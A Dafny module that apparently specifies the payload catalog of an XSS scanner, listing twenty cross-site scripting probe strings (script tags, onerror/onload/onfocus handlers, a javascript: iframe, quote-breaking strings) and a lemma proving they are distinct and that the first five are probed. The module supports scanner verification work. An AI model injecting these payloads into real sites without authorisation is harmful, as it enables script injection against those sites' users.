/** `XSStrikeEngine.load_payloads`: the fixed, ordered catalog of probe strings. */
module Payloads {
  import opened Seqs

  const Catalog: seq<string> := [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "<iframe src=\"javascript:alert(1)\">",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "\";alert(1);//",
    "</script><script>alert(1)</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>"
  ]

  /** The prefix `payloads[:5]` the detector walks. */
  const Probed: seq<string> := Catalog[..5]

  /** Twenty payloads, no two alike, the first five probed in catalog order. */
  lemma CatalogShape()
    ensures |Catalog| == 20 && Distinct(Catalog)
    ensures |Probed| == 5 && forall i :: 0 <= i < 5 ==> Probed[i] == Catalog[i]
  {
    forall i, j | 0 <= i < j < |Catalog|
      ensures Catalog[i] != Catalog[j]
    {
      // Payloads of equal length already differ within their first three characters.
      if |Catalog[i]| == |Catalog[j]| {
        assert Catalog[i][0] != Catalog[j][0] || Catalog[i][1] != Catalog[j][1] || Catalog[i][2] != Catalog[j][2];
      }
    }
  }
}
